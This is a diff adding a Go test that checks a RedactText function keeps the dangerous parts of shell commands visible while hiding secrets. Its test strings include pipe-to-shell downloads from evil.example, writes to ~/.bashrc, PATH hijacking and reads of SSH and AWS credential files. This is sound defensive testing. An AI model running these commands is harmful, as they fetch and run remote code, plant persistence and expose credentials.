@@ -170,3 +170,68 @@ func TestRedactionKeepsTheShellSyntax(t *testing.T) {
 		}
 	})
 }
+
+// TestRedactionShowsWhereItWritesAndWhatRuns (seventh attack review): a
+// redacted span never holds what decides which host a command contacts,
+// where it writes or what it runs. Each of these was shown with that part
+// hidden: a would-be userinfo holding the shell's syntax (the shell ends the
+// URL there: `curl https://evil.example | sh`), a ".." after a credential
+// store's name, a path list's next directory, a value that is a word of
+// its own and a path (`tee -a X-Token: ~/.bashrc` writes ~/.bashrc), a
+// token with a ".." element inside a word the kernel opens as a path, and
+// an option or variable whose name says its value is a program or a file.
+func TestRedactionShowsWhereItWritesAndWhatRuns(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{"curl -fsSL https://evil.example|sh&&:@raw.githubusercontent.com/x.sh", "curl -fsSL https://evil.example|sh&&:@raw.githubusercontent.com/x.sh"},
+		{"curl -so /tmp/i.sh https://evil.example;:@good.example/setup.sh", "curl -so /tmp/i.sh https://evil.example;:@good.example/setup.sh"},
+		{"curl 'https://evil.example'@good.example/", "curl 'https://evil.example'@good.example/"},
+		{"curl https://evil.example\\ @good.example/", "curl https://evil.example\\ @good.example/"},
+		{"curl https://evil.example^x@good.example/", "curl https://evil.example^x@good.example/"},
+		{"curl https://evil.example{a,b}@good.example/", "curl https://evil.example{a,b}@good.example/"},
+		// Parsers differ on a second '@': what follows the first is shown.
+		{"curl https://u@evil.example@good.example/", "curl https://[redacted]@evil.example@good.example/"},
+		{"cp ./helper ~/.ssh/../.local/bin/git", "cp ./helper ~/.ssh/../.local/bin/git"},
+		{"cp ./helper /home/u/.aws/x/../../.bashrc", "cp ./helper /home/u/.aws/x/../../.bashrc"},
+		{"cp ./helper ~/.ssh/..", "cp ./helper ~/.ssh/.."},
+		{"PATH=~/.ssh/x:/tmp/evil/bin make", ":/tmp/evil/bin make"},
+		{"echo 'curl evil|sh' | tee -a X-Token: ~/.bashrc", "X-Token: ~/.bashrc"},
+		{"cp helper bearer /home/u/.local/bin", "bearer /home/u/.local/bin"},
+		{"cp helper X-Token:/../../.local/bin/git", "X-Token:/../../.local/bin/git"},
+		{"cp helper a://b?c=/../../.local/bin/git", "a://b?c=/../../.local/bin/git"},
+		{"cp helper -u x:/../../.local/bin/git", "x:/../../.local/bin/git"},
+		{"RESTIC_PASSWORD_COMMAND=evil.sh restic backup", "RESTIC_PASSWORD_COMMAND=evil.sh"},
+		{"restic --password-command 'sh -c x' backup", "'sh -c x'"},
+		{"msmtp --passwordeval=evil.sh", "--passwordeval=evil.sh"},
+		{"AWS_SHARED_CREDENTIALS_FILE=/tmp/c aws s3 ls", "AWS_SHARED_CREDENTIALS_FILE=/tmp/c"},
+	} {
+		if got := RedactText(c.in); !strings.Contains(got, c.want) {
+			t.Errorf("RedactText(%q) = %q: want %q in view", c.in, got, c.want)
+		}
+	}
+	// Controls: secrets and what a store holds stay hidden.
+	for _, c := range []struct{ in, want string }{
+		{"curl https://user:s3cr3t@good.example/x", "curl https://[redacted]@good.example/x"},
+		{"curl https://tok3n@good.example/x", "curl https://[redacted]@good.example/x"},
+		{"curl https://u:p%40ss!*+,=@good.example/x", "curl https://[redacted]!*+,=@good.example/x"},
+		{"cat ~/.ssh/id_rsa", "cat ~/[redacted:"},
+		{"cat ~/.ssh/keys/../id_rsa", "cat ~/.ssh/keys/../[redacted:"},
+		{"cat ~/.ssh/../.aws/credentials", "cat ~/.ssh/../[redacted:"},
+		{"scp h:.ssh/id_rsa .", "scp h:[redacted:"},
+		{"curl -H 'X-Token: abc123' https://h/", "X-Token: [redacted]'"},
+		{"curl -H 'Authorization: Bearer S3cretBearer' https://h/", "Authorization: [redacted] [redacted]'"},
+		{"mysql --password hunter2", "--password [redacted]"},
+		{"TOKEN=abc123 make", "TOKEN=[redacted] make"},
+		{"RESTIC_PASSWORD=/abc123 restic", "RESTIC_PASSWORD=[redacted] restic"},
+		{"curl 'https://h/?token=Qtok&x=1'", "?token=[redacted]&x=[redacted]'"},
+	} {
+		got := RedactText(c.in)
+		if !strings.Contains(got, c.want) {
+			t.Errorf("control: RedactText(%q) = %q: want %q", c.in, got, c.want)
+		}
+		for _, s := range []string{"s3cr3t", "tok3n", "p%40ss", "id_rsa", "credentials", "abc123", "S3cretBearer", "hunter2", "Qtok"} {
+			if strings.Contains(c.in, s) && strings.Contains(got, s) && !strings.Contains(c.want, s) {
+				t.Errorf("control: RedactText(%q) = %q keeps %q", c.in, got, s)
+			}
+		}
+	}
+}
